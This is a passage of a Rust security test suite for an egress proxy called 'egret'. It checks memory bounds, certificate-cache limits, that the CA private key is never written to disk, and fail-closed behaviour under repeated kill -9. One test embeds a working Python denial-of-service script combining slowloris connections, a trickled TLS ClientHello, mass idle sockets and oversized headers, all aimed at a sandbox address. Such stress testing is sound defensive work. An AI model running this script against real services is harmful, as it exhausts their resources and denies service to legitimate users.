    let pki = upstream_pki(&pkidir, "up", &["allowed.test"]);
    let up = Upstream::start(&topo, "up", Some((&pki.cert, &pki.key)));
    let policy = write(
        &topo,
        "policy.toml",
        &BASIC_POLICY.replace(
            "internet = false\n",
            "internet = false\nintercept_https = true\n",
        ),
    );
    let egret = Egret::start(
        &topo,
        "sec-dos",
        &[
            "--policy",
            &policy,
            "--tls-handshake-timeout-ms",
            "2000",
            "--upstream-ca",
            pki.ca.to_str().unwrap(),
        ],
    )
    .expect("egret starts");
    let pid = egret.proc.child.id();
    let rss0 = vm_rss_kib(pid);
    let attack = r#"
import socket, sys, time, threading, resource, ssl
n_idle = int(sys.argv[1])
resource.setrlimit(resource.RLIMIT_NOFILE, (n_idle + 1000, n_idle + 1000))
idle = []
for i in range(n_idle):
    s = socket.socket(); s.settimeout(5)
    try:
        # silent, a partial request line, a partial TLS record header
        s.connect(("10.200.0.2", 443 if i % 3 == 2 else 80)); idle.append(s)
        if i % 3 == 1: s.sendall(b"GET /idle HTTP/1.1\r\n")
        if i % 3 == 2: s.sendall(b"\x16\x03\x01")
    except OSError as e:
        print("idle connect failed", i, e, flush=True); break
print("IDLE", len(idle), flush=True)
# slowloris: 50 connections sending a header byte now and then
slow = []
for i in range(50):
    s = socket.create_connection(("10.200.0.2", 80), timeout=5)
    s.sendall(b"GET /slow HTTP/1.1\r\nHost: allowed.test\r\n"); slow.append(s)
# a ClientHello trickled byte by byte
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
i_, o_ = ssl.MemoryBIO(), ssl.MemoryBIO()
obj = ctx.wrap_bio(i_, o_, server_hostname="allowed.test")
try: obj.do_handshake()
except ssl.SSLWantReadError: pass
hello = o_.read()
tr = socket.create_connection(("10.200.0.2", 443), timeout=10)
t0 = time.time(); closed_after = None
for b in hello:
    try:
        tr.sendall(bytes([b]))
        for s in slow[:10]: s.sendall(b"X")
    except OSError:
        closed_after = time.time() - t0; break
    time.sleep(0.1)
    if time.time() - t0 > 8: break
if closed_after is None:
    tr.settimeout(3)
    try:
        d = tr.recv(10); closed_after = time.time() - t0 if not d else None
    except OSError: closed_after = time.time() - t0
print("TRICKLE closed after", closed_after, flush=True)
# huge headers
for size in [64 * 1024, 1024 * 1024]:
    h = socket.create_connection(("10.200.0.2", 80), timeout=10)
    try:
        h.sendall(b"GET /echo HTTP/1.1\r\nHost: allowed.test\r\nX-Big: " + b"a" * size + b"\r\n\r\n")
        print("HUGE", size, h.recv(40).split(b"\r\n")[0], flush=True)
    except OSError as e: print("HUGE", size, type(e).__name__, flush=True)
many = socket.create_connection(("10.200.0.2", 80), timeout=10)
try:
    many.sendall(b"GET /echo HTTP/1.1\r\nHost: allowed.test\r\n" + b"".join(b"X-H%d: v\r\n" % i for i in range(5000)) + b"\r\n")
    print("MANY", many.recv(40).split(b"\r\n")[0], flush=True)
except OSError as e: print("MANY", type(e).__name__, flush=True)
print("HOLDING", flush=True)
input()
print("alive idle", sum(1 for s in idle if s.fileno() >= 0))
"#;
    let mut attacker = Interactive::python(&topo.sbx, attack, &[&n_idle.to_string()]);
    let mut lines = Vec::new();
    loop {
        let l = attacker.read_line();
        assert!(!l.is_empty(), "attacker died: {lines:?}");
        if l.starts_with("HOLDING") {
            break;
        }
        lines.push(l.trim().to_string());
    }
    eprintln!("{lines:#?}");
    let idle_line = lines.iter().find(|l| l.starts_with("IDLE")).unwrap();
    let opened: usize = idle_line
        .split_whitespace()
        .nth(1)
        .unwrap()
        .parse()
        .unwrap();
    assert_eq!(opened, n_idle, "{lines:?}");
    // the trickled hello is cut off by the handshake timeout (2 s), not served forever
    let trickle = lines.iter().find(|l| l.starts_with("TRICKLE")).unwrap();
    assert!(
        !trickle.ends_with("None"),
        "trickled ClientHello never closed: {trickle}"
    );
    // 64 KiB of headers is within hyper's limits and forwarded; 1 MiB or 5000 headers is not
    for l in lines
        .iter()
        .filter(|l| l.starts_with("HUGE 1048576") || l.starts_with("MANY"))
    {
        assert!(!l.contains("200 OK"), "huge header block accepted: {l}");
    }
    // while all that is held open, a well-behaved client is served promptly
    let t = Instant::now();
    let (code, out, err) = topo.curl(&["--max-time", "5", "http://allowed.test/echo"]);
    assert_eq!(code, 0, "{err}\n{}", egret.logs());
    assert!(out.contains("\"server\":\"up\""), "{out}");
    eprintln!("well-behaved client served in {:?}", t.elapsed());
    assert!(
        t.elapsed() < Duration::from_secs(2),
        "took {:?}",
        t.elapsed()
    );
    let rss = vm_rss_kib(pid);
    eprintln!("egret VmRSS: {rss0} KiB at start, {rss} KiB with {n_idle} idle connections");
    // Documented bound (SECURITY.md): 64 MiB plus 16 KiB per idle connection (measured ~13 KiB
    // each at 10,000: a task, a socket and the first read buffer), so a leak per connection
    // fails at any scale rather than only at the CI default.
    let bound = 64 * 1024 + 16 * n_idle as u64;
    assert!(
        rss < bound,
        "egret VmRSS {rss} KiB with {n_idle} idle connections; bound {bound} KiB"
    );
    let rest = attacker.finish();
    eprintln!("{rest}");
    assert!(!up.access_log().contains("/slow"), "{}", up.access_log());
}

#[test]
fn many_sni_names_keep_the_leaf_cache_and_memory_bounded() {
    let n = env_usize("EGRET_SEC_SNI_NAMES", 5000);
    let topo = Topology::new(SandboxNet::LoOnly);
    let policy = write(
        &topo,
        "policy.toml",
        "internet = false\nintercept_https = true\nallowed_hosts = [\"*.many.test\"]\n",
    );
    let ca = topo.tmp.path("ca.pem").to_string_lossy().into_owned();
    let mut egret = Egret::start(
        &topo,
        "sec-sni",
        &[
            "--policy",
            &policy,
            "--leaf-cache-size",
            "256",
            // The property here is the leaf cache; on a loaded machine a starved client may
            // take longer than the default 300 ms to send its ClientHello, and would then be
            // classified as opaque TCP and refused (seen at 100,000 names).
            "--classify-timeout-ms",
            "10000",
            "--ca-out",
            &ca,
        ],
    )
    .expect("egret starts");
    let pid = egret.proc.child.id();
    let rss0 = vm_rss_kib(pid);
    let script = r#"
import socket, ssl, sys, threading
n = int(sys.argv[1])
ctx = ssl.create_default_context(cafile=sys.argv[2])
ok = [0] * 8
def worker(k):
    for i in range(k, n, 8):
        try:
            with socket.create_connection(("10.200.0.9", 443), timeout=10) as s:
                with ctx.wrap_socket(s, server_hostname="n%d.many.test" % i):
                    ok[k] += 1
        except OSError as e:
            print("ERR", i, e, flush=True)
ts = [threading.Thread(target=worker, args=(k,)) for k in range(8)]
[t.start() for t in ts]; [t.join() for t in ts]
print("HANDSHAKES", sum(ok))
"#;
    let out = py(&topo, script, &[&n.to_string(), &ca]);
    assert!(out.contains(&format!("HANDSHAKES {n}")), "{out}");
    let rss = vm_rss_kib(pid);
    eprintln!("egret VmRSS: {rss0} KiB at start, {rss} KiB after {n} distinct SNI names");
    assert!(rss < 96 * 1024, "egret VmRSS {rss} KiB after {n} names");
    let (mints, entries) = stop_and_leaf_stats(&mut egret);
    eprintln!("leaf cache: {mints} mints, {entries} entries at exit (capacity 256)");
    assert_eq!(mints as usize, n);
    assert!(entries <= 256, "leaf cache holds {entries} > 256");
}

// ---------------------------------------------------------------------------------------------
// 5. The CA

/// Files under `root` (not under `skip`, not in build directories) modified since `since`
/// whose content holds a PEM private key.
fn files_with_private_keys(
    root: &Path,
    skip: &[PathBuf],
    since: std::time::SystemTime,
    out: &mut Vec<PathBuf>,
) {
    let Ok(rd) = std::fs::read_dir(root) else {
        return;
    };
    for e in rd.flatten() {
        let p = e.path();
        if skip.iter().any(|s| p.starts_with(s)) || p.ends_with("target") {
            continue;
        }
        let Ok(ft) = e.file_type() else { continue };
        if ft.is_dir() {
            files_with_private_keys(&p, skip, since, out);
        } else if ft.is_file()
            && e.metadata()
                .map(|m| m.len() < 16 << 20 && m.modified().is_ok_and(|t| t >= since))
                .unwrap_or(false)
        {
            if let Ok(b) = std::fs::read(&p) {
                if b.windows(11).any(|w| w == b"PRIVATE KEY") {
                    out.push(p);
                }
            }
        }
    }
}

#[test]
fn the_ca_key_is_never_written_and_no_leaf_is_minted_for_names_not_intercepted() {
    let since = std::time::SystemTime::now() - Duration::from_secs(1);
    let topo = Topology::new(SandboxNet::LoOnly);
    let pkidir = topo.tmp.path("pki");
    std::fs::create_dir_all(&pkidir).unwrap();
    let pki = upstream_pki(&pkidir, "up", &["pinned.test"]);
    let _up = Upstream::start(&topo, "up", Some((&pki.cert, &pki.key)));
    let policy = write(
        &topo,
        "policy.toml",
        r#"
internet = false
intercept_https = true
allowed_hosts = ["pinned.test"]
denied_hosts = ["denied.test"]
passthrough_hosts = ["pinned.test"]
[resolve]
"pinned.test" = "10.200.0.2"
"#,
    );
    let state = topo.tmp.path("state");
    let ca = topo.tmp.path("ca.pem").to_string_lossy().into_owned();
    let bundle = topo.tmp.path("bundle.pem").to_string_lossy().into_owned();
    let sock = topo.tmp.path("admin.sock").to_string_lossy().into_owned();
    let mut egret = Egret::start(
        &topo,
        "sec-ca",
        &[
            "--policy",
            &policy,
            "--ca-out",
            &ca,
            "--ca-bundle-out",
            &bundle,
            "--admin-socket",
            &sock,
            "--state-dir",
            state.to_str().unwrap(),
            "--handler-cache-dir",
            topo.tmp.path("hcache").to_str().unwrap(),
        ],
    )
    .expect("egret starts");
    let script = r#"
import socket, ssl, sys
ctx = ssl.create_default_context(cafile=sys.argv[1])
for name, ip in [("denied.test", "10.200.0.3"), ("unlisted.test", "10.200.0.4"),
                 ("pinned.test", "10.200.0.2")]:
    try:
        with socket.create_connection((ip, 443), timeout=5) as s:
            with ctx.wrap_socket(s, server_hostname=name) as t:
                print(name, "HANDSHAKE-WITH-EGRET-CA", t.getpeercert()["subject"])
    except ssl.SSLCertVerificationError as e: print(name, "not egret's cert:", e.verify_message)
    except OSError as e: print(name, "refused:", type(e).__name__)
"#;
    let out = py(&topo, script, &[&ca]);
    eprintln!("{out}");
    assert!(!out.contains("HANDSHAKE-WITH-EGRET-CA"), "{out}");
    // CA file and bundle carry certificates only
    for f in [&ca, &bundle] {
        let text = std::fs::read_to_string(f).unwrap();
        assert!(text.contains("BEGIN CERTIFICATE") && !text.contains("PRIVATE KEY"));
    }
    let (mints, _) = stop_and_leaf_stats(&mut egret);
    assert_eq!(
        mints, 0,
        "a leaf was minted for a name that is not intercepted"
    );
    // no file egret could have written (its scratch, state and cache dirs, /tmp, /run/egret)
    // holds a private key; other tests' dirs (with their upstream keys) and ours are skipped
    let mut found = Vec::new();
    files_with_private_keys(
        &topo.tmp.0,
        std::slice::from_ref(&pkidir),
        since,
        &mut found,
    );
    let others: Vec<PathBuf> = std::fs::read_dir(std::env::temp_dir())
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| {
            p.file_name()
                .is_some_and(|n| n.to_string_lossy().starts_with("egret-e2e-"))
        })
        .collect();
    files_with_private_keys(&std::env::temp_dir(), &others, since, &mut found);
    files_with_private_keys(Path::new("/run/egret"), &[], since, &mut found);
    assert!(found.is_empty(), "private keys on disk: {found:?}");
}

// ---------------------------------------------------------------------------------------------
// 8. Fail-closed: kill -9 under load

#[test]
fn killed_at_random_moments_egret_never_lets_a_request_bypass_the_handler() {
    let kills = env_usize("EGRET_SEC_KILLS", 20);
    let topo = Topology::new(SandboxNet::Veth);
    let up = Upstream::start_with(
        &topo,
        "up",
        &["--http", "[::]:80", "--log-header", "x-auth-token"],
    );
    let p = write(
        &topo,
        "policy.toml",
        &format!(
            r#"
internet = false
allowed_hosts = ["vcs.test"]
outbound = "inject"
[resolve]
"vcs.test" = "10.200.0.2"
"extra.test" = "10.200.0.2"
[secrets]
VCS_TOKEN = {{ env = "VCS_TOKEN" }}
[handlers.inject]
module = "{}"
params = {{ header = "x-auth-token", secret = "VCS_TOKEN" }}
secrets = ["VCS_TOKEN"]
"#,
            handler_module("inject-header")
        ),
    );
    let state = topo.tmp.path("state");
    let sock = topo.tmp.path("admin.sock").to_string_lossy().into_owned();
    let start = |n: usize| -> Egret {
        let ready = topo.tmp.path(&format!("egret-kill{n}.ready"));
        let mut cmd = topo.egr.cmd(bin("egret").to_str().unwrap());
        cmd.args([
            "run",
            "--netns",
            &topo.sbx.name,
            "--sandbox-id",
            "sec-kill",
            "--policy",
            &p,
        ]);
        cmd.args([
            "--ready-file",
            ready.to_str().unwrap(),
            "--admin-socket",
            &sock,
        ]);
        cmd.args(["--state-dir", state.to_str().unwrap()]);
        cmd.env("VCS_TOKEN", TOKEN);
        let mut proc = spawn(cmd, &topo.tmp.0, &format!("egret-kill{n}"));
        wait_ready(&mut proc, &ready, Duration::from_secs(30)).expect("egret starts");
        Egret { proc, ready }
    };
    let mut egret = start(0);
    // a runtime change that must survive every crash
    let o = Command::new(bin("egret"))
        .args(["ctl", "--socket", &sock, "allow-host", "add", "extra.test"])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    // load: 6 threads of keep-alive and fresh connections, to the named host and to the
    // sandbox's own veth peer (an address egret does not allow), for the whole test
    let load = r#"
import socket, threading, sys, time
stop = False; counts = {"ok": 0, "err": 0}
def one(dst, host, keep):
    s = None
    while not stop:
        try:
            if s is None:
                s = socket.create_connection((dst, 80), timeout=2)
            s.sendall(("GET /load HTTP/1.1\r\nHost: %s\r\n\r\n" % host).encode())
            d = s.recv(4096)
            if not d: raise OSError("closed")
            counts["ok"] += 1
            if not keep: s.close(); s = None
        except OSError:
            counts["err"] += 1
            if s: s.close()
            s = None; time.sleep(0.005)
ts = [threading.Thread(target=one, args=a, daemon=True) for a in
      [("10.200.0.2", "vcs.test", True), ("10.200.0.2", "vcs.test", False),
       ("10.200.0.4", "vcs.test", False), ("10.201.0.2", "vcs.test", True),
       ("10.201.0.2", "extra.test", False), ("10.201.0.2", "10.201.0.2", False)]]
[t.start() for t in ts]
print("STARTED", flush=True)
input()
stop = True
print(counts)
"#;
    let mut client = Interactive::python(&topo.sbx, load, &[]);
    assert!(client.read_line().starts_with("STARTED"));
    let mut seed = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos() as u64;
    eprintln!("kill schedule seed {seed}");
    let mut rnd = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    for k in 1..=kills {
        std::thread::sleep(Duration::from_millis(50 + rnd() % 600));
        egret.proc.signal(nix::sys::signal::Signal::SIGKILL);
        egret
            .proc
            .wait_timeout(Duration::from_secs(5))
            .expect("egret died");
        // while it is down, connections fail at once and nothing reaches the upstream
        let before = up.access_log().lines().count();
        let (code, took, _) = topo.curl(&[
            "--max-time",
            "3",
            "-w",
            "%{time_total}",
            "-H",
            "Host: vcs.test",
            "http://10.200.0.2/down",
        ]);
        assert_ne!(code, 0, "a request succeeded with egret dead");
        let took: f64 = took.trim().parse().unwrap_or(99.0);
        assert!(took < 1.0, "took {took} s to fail (kill {k})");
        let (code, _, _) = topo.curl(&["--max-time", "2", "http://10.201.0.2/down"]);
        assert_ne!(code, 0, "the veth let a request out with egret dead");
        std::thread::sleep(Duration::from_millis(100));
        assert_eq!(
            up.access_log().lines().count(),
            before,
            "upstream reached while egret was down"
        );
        egret = start(k);
    }
    // resumed with the runtime change
    let (code, out, err) = topo.curl(&["-H", "Host: extra.test", "http://10.200.0.2/echo"]);
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains(TOKEN),
        "extra.test not allowed after restart: {out}"
    );
    let counts = client.finish();
    eprintln!("client: {counts}");
    let log = up.access_log();
    let lines: Vec<&str> = log.lines().collect();
    assert!(
        lines.len() > kills,
        "too little load reached the upstream: {log}"
    );
    for l in &lines {
        assert!(
            l.contains("x-auth-token=present"),
            "bypassed the handler: {l}"
        );
        assert!(!l.contains("/down"), "{l}");
        assert!(!l.contains("host=10.201.0.2"), "{l}");
    }
    eprintln!(
        "{} requests reached the upstream, all through the handler",
        lines.len()
    );
}
